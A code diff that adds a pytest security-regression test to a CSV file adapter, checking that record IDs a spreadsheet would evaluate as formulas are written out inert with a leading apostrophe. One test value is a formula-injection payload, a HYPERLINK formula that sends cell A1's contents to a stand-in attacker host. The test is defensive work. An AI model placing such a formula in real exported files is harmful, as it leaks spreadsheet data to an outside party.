@@ -6,7 +6,7 @@ import csv
 from pathlib import Path
 
 import pytest
-from file_adapter_helpers import sample_rows, write_csv
+from file_adapter_helpers import row, sample_rows, write_csv
 from kvrules_file import FileAdapter, FileConfig
 
 from kvrules.testing import content
@@ -79,3 +79,32 @@ def test_a_row_edited_by_hand_is_left_as_it_is(adapter: FileAdapter, tmp_path: P
         ("p-1", "ks:high"),
         ("p-2", "ks:low"),
     ]
+
+
+FORMULA_ID = '=HYPERLINK("https://attacker.example/?x="&A1,"open")'
+
+
+@pytest.mark.parametrize(
+    ("record_id", "cell"),
+    [
+        (FORMULA_ID, "'" + FORMULA_ID),
+        ("+31-70", "'+31-70"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("'=quoted", "''=quoted"),  # an apostrophe of its own: a second one, read back as it was
+        ("p-1", "p-1"),
+    ],
+)
+def test_a_record_id_a_spreadsheet_would_run_is_written_inert(
+    tmp_path: Path, record_id: str, cell: str
+) -> None:
+    """Security review: `record_id` went into kvrules-tags.csv as it was, formula and all,
+    where every export of kvrules writes such a cell with a leading apostrophe."""
+    write_csv(tmp_path / "projects.csv", [*sample_rows(1), *([] if record_id == "p-1" else
+              [row(record_id, title="From the export", start="2026-01-01")])])  # fmt: skip
+    adapter = FileAdapter(FileConfig(path=tmp_path))
+    assert adapter.write_tags(record_id, ["ks:high"], dry_run=False).written
+    tags_file = tmp_path / "kvrules-tags.csv"
+    assert [r["record_id"] for r in rows(tags_file)] == [cell]
+    # read back as the id it is: the tag is removed from that record's row, not left beside it
+    assert adapter.write_tags(record_id, [], dry_run=False, written=["ks:high"]).written
+    assert rows(tags_file) == []
